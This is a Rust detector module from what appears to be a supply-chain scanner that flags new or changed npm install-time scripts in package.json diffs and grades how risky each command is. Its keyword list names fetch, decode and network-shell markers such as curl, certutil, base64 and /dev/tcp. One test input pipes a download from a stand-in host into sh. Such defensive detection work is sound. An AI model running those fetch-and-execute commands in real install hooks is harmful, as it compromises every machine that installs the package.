//! `npm-lifecycle-script`: a `preinstall`, `install`, `postinstall`, `prepare` or `prepublish`
//! script added to or changed in a `package.json`. npm runs these on every machine that
//! installs the package, before anyone can look: ua-parser-js (2021) added a `preinstall` that
//! fetched a miner, Shai-Hulud ran `node setup_bun.js`, Nx ran `node telemetry.js`.
//!
//! The command is graded, not just matched: well-known build and hook tools (`husky`,
//! `node-gyp rebuild`, `prebuild-install`, `patch-package`, …) are quiet; an unknown command
//! is low; running a script file is high, higher when the change adds that file or the file is
//! hidden; fetching, decoding or piping into a shell is critical. A value that did not change
//! (re-indentation) is not reported.

use crate::change::{FileStatus, LineKind};
use crate::detector::{Detector, DetectorMeta, FileCtx, FileScope, Hit, LinePattern};
use crate::finding::{Confidence, Findings, Location, Severity, Vector};

#[derive(Debug)]
pub struct NpmLifecycleScript;

static META: DetectorMeta = DetectorMeta::new(
    "npm-lifecycle-script",
    "New or changed npm install-time script",
    Severity::High,
    Confidence::Medium,
    &[Vector::InstallHook],
    &["javascript", "json"],
    "npm runs preinstall, install, postinstall and prepare scripts automatically on every machine \
     that installs this package (and prepare on every git install). Adding or changing one is how \
     the ua-parser-js, Shai-Hulud and Nx compromises ran their payloads. Read the command and \
     every file it runs; ask why the package needs to run code at install time.",
);

const KEY_RE: &str =
    r#""(preinstall|install|postinstall|prepare|prepublish)"\s*:\s*"((?:[^"\\]|\\.)*)""#;

static PATTERNS: &[LinePattern] = &[
    LinePattern::lit("\"preinstall\"")
        .files(&[FileScope::Install])
        .regex(KEY_RE),
    LinePattern::lit("\"install\"")
        .files(&[FileScope::Install])
        .regex(KEY_RE),
    LinePattern::lit("\"postinstall\"")
        .files(&[FileScope::Install])
        .regex(KEY_RE),
    LinePattern::lit("\"prepare\"")
        .files(&[FileScope::Install])
        .regex(KEY_RE),
    LinePattern::lit("\"prepublish\"")
        .files(&[FileScope::Install])
        .regex(KEY_RE),
];

/// Commands of well-known install/build tooling, by first word (after `npx`).
const KNOWN_TOOLS: &[&str] = &[
    "husky",
    "is-ci",
    "node-gyp",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp",
    "cmake-js",
    "patch-package",
    "tsc",
    "lerna",
    "ngcc",
    "electron-builder",
    "electron-rebuild",
    "only-allow",
    "simple-git-hooks",
    "lefthook",
    "svelte-kit",
    "nuxt",
    "nuxi",
    "npm",
    "yarn",
    "pnpm",
    "ts-patch",
    "rimraf",
    "tsup",
    "rollup",
    "webpack",
    "vite",
    "esbuild",
    "babel",
    "true",
];

/// Fetch, decode or shell markers in a command (lower-case).
const STRONG: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "certutil",
    "bitsadmin",
    "base64",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "eval ",
    "http://",
    "https://",
    "node -e",
    "node --eval",
    "python -c",
    "python3 -c",
    "bash -c",
    "sh -c",
    "powershell",
    "/dev/tcp",
    "nohup ",
    "start /b",
];

/// Interpreters that run a script file named as their first argument.
const RUNNERS: &[&str] = &[
    "node", "bun", "deno", "sh", "bash", "python", "python3", "ruby", "perl", "pwsh",
];

#[derive(Debug, PartialEq, Eq)]
enum Verdict {
    Quiet,
    Unknown,
    RunsFile { script: String, hidden: bool },
    Strong(&'static str),
}

/// Split a command line on `&&`, `||`, `;` and `&` into its steps.
fn steps(cmd: &str) -> impl Iterator<Item = &str> {
    cmd.split(['&', '|', ';'])
        .map(str::trim)
        .filter(|s| !s.is_empty())
}

fn judge(cmd: &str) -> Verdict {
    let lower = cmd.to_ascii_lowercase();
    if let Some(m) = STRONG.iter().copied().find(|m| lower.contains(m)) {
        return Verdict::Strong(m);
    }
    let mut unknown = false;
    for step in steps(cmd) {
        let mut words = step.split_whitespace();
        let mut first = words.next().unwrap_or("");
        if first == "npx" {
            first = words.next().unwrap_or("");
        }
        if RUNNERS.contains(&first)
            && let Some(arg) = words.find(|w| !w.starts_with('-'))
        {
            let script = arg.trim_matches(|c| c == '\'' || c == '"').to_string();
            let hidden = script
                .split('/')
                .any(|seg| seg.starts_with('.') && seg != "." && seg != "..");
            return Verdict::RunsFile { script, hidden };
        }
        if !KNOWN_TOOLS.contains(&first) {
            unknown = true;
        }
    }
    if unknown {
        Verdict::Unknown
    } else {
        Verdict::Quiet
    }
}

fn unescape_json(s: &str) -> String {
    s.replace("\\\"", "\"").replace("\\\\", "\\")
}

/// `dir/` of a package.json path, for resolving the scripts it names.
fn package_dir(path: &str) -> &str {
    path.rsplit_once('/').map(|(d, _)| d).unwrap_or("")
}

fn normalise(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for seg in path.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            s => parts.push(s),
        }
    }
    parts.join("/")
}

impl Detector for NpmLifecycleScript {
    fn meta(&self) -> &DetectorMeta {
        &META
    }

    fn line_patterns(&self) -> &[LinePattern] {
        PATTERNS
    }

    fn on_hit(&self, hit: &Hit<'_>, file: &FileCtx<'_>, out: &mut Findings) {
        let path = file.path();
        if path.rsplit('/').next() != Some("package.json") {
            return;
        }
        let Some(caps) = regex_captures(hit.matched()) else {
            return;
        };
        let (key, value) = caps;
        let cmd = unescape_json(&value);
        // The same key removed in this hunk: a change, or only a move/re-indent.
        let mut old = None;
        for l in hit
            .hunk
            .lines
            .iter()
            .filter(|l| l.kind == LineKind::Removed)
        {
            if let Some((k, v)) = regex_captures(hit.hunk.line_text(l))
                && k == key
            {
                old = Some(unescape_json(&v));
            }
        }
        if old.as_deref() == Some(cmd.as_str()) {
            return;
        }
        let verb = if old.is_some() { "changed" } else { "new" };
        let (title, severity, confidence, related) = match judge(&cmd) {
            Verdict::Quiet => return,
            Verdict::Unknown => (
                format!("{key} script ({verb}) runs code at install"),
                Severity::Low,
                Confidence::Medium,
                None,
            ),
            Verdict::Strong(m) => (
                format!(
                    "{key} script ({verb}) fetches, decodes or pipes to a shell ({})",
                    m.trim()
                ),
                Severity::Critical,
                Confidence::High,
                None,
            ),
            Verdict::RunsFile { script, hidden } => {
                let target = normalise(&format!("{}/{}", package_dir(path), script));
                let added_here = file.change.files.iter().find(|f| {
                    f.status == FileStatus::Added && f.new_path.as_deref() == Some(target.as_str())
                });
                match (hidden, added_here) {
                    (true, _) => (
                        format!("{key} script ({verb}) runs a hidden file: {script}"),
                        Severity::Critical,
                        Confidence::High,
                        added_here.map(|f| f.path().to_string()),
                    ),
                    (false, Some(f)) => (
                        format!("{key} script ({verb}) runs {script}, which this change adds"),
                        Severity::High,
                        Confidence::High,
                        Some(f.path().to_string()),
                    ),
                    (false, None) => (
                        format!("{key} script ({verb}) runs {script} at install"),
                        Severity::High,
                        Confidence::Medium,
                        None,
                    ),
                }
            }
        };
        let evidence = match &old {
            Some(o) => format!("\"{key}\": \"{cmd}\" (was \"{o}\")"),
            None => format!("\"{key}\": \"{cmd}\""),
        };
        let mut b = META
            .finding(hit.location(path))
            .title(title)
            .severity(severity)
            .confidence(confidence)
            .evidence(evidence);
        if let Some(r) = related {
            b = b.related(Location::file(r).with_note("script run at install"));
        }
        out.push(b.build());
    }
}

fn regex_captures(text: &str) -> Option<(String, String)> {
    use std::sync::OnceLock;
    static RE: OnceLock<Option<regex::Regex>> = OnceLock::new();
    let re = RE.get_or_init(|| regex::Regex::new(KEY_RE).ok()).as_ref()?;
    let c = re.captures(text)?;
    Some((
        c.get(1)?.as_str().to_string(),
        c.get(2)?.as_str().to_string(),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn well_known_tooling_is_quiet() {
        assert_eq!(judge("husky install"), Verdict::Quiet);
        assert_eq!(judge("is-ci || husky install"), Verdict::Quiet);
        assert_eq!(
            judge("prebuild-install || node-gyp rebuild"),
            Verdict::Quiet
        );
        assert_eq!(judge("npx only-allow pnpm"), Verdict::Quiet);
        assert_eq!(judge("npm run build"), Verdict::Quiet);
    }

    #[test]
    fn running_a_script_file_is_found_with_its_name() {
        assert_eq!(
            judge("node setup_bun.js"),
            Verdict::RunsFile {
                script: "setup_bun.js".into(),
                hidden: false
            }
        );
        assert_eq!(
            judge("node ./.github/x/run.js"),
            Verdict::RunsFile {
                script: "./.github/x/run.js".into(),
                hidden: true
            }
        );
    }

    #[test]
    fn downloads_and_shells_are_strong() {
        assert_eq!(
            judge("curl -s https://x.example/i.sh | sh"),
            Verdict::Strong("curl ")
        );
        assert!(matches!(
            judge("echo aGk= | base64 -d > a"),
            Verdict::Strong(_)
        ));
        assert_eq!(judge("echo thanks"), Verdict::Unknown);
    }

    #[test]
    fn script_paths_resolve_against_the_package_directory() {
        assert_eq!(
            normalise("packages/a/./scripts/../run.js"),
            "packages/a/run.js"
        );
        assert_eq!(normalise("/setup_bun.js"), "setup_bun.js");
        assert_eq!(package_dir("package.json"), "");
    }
}
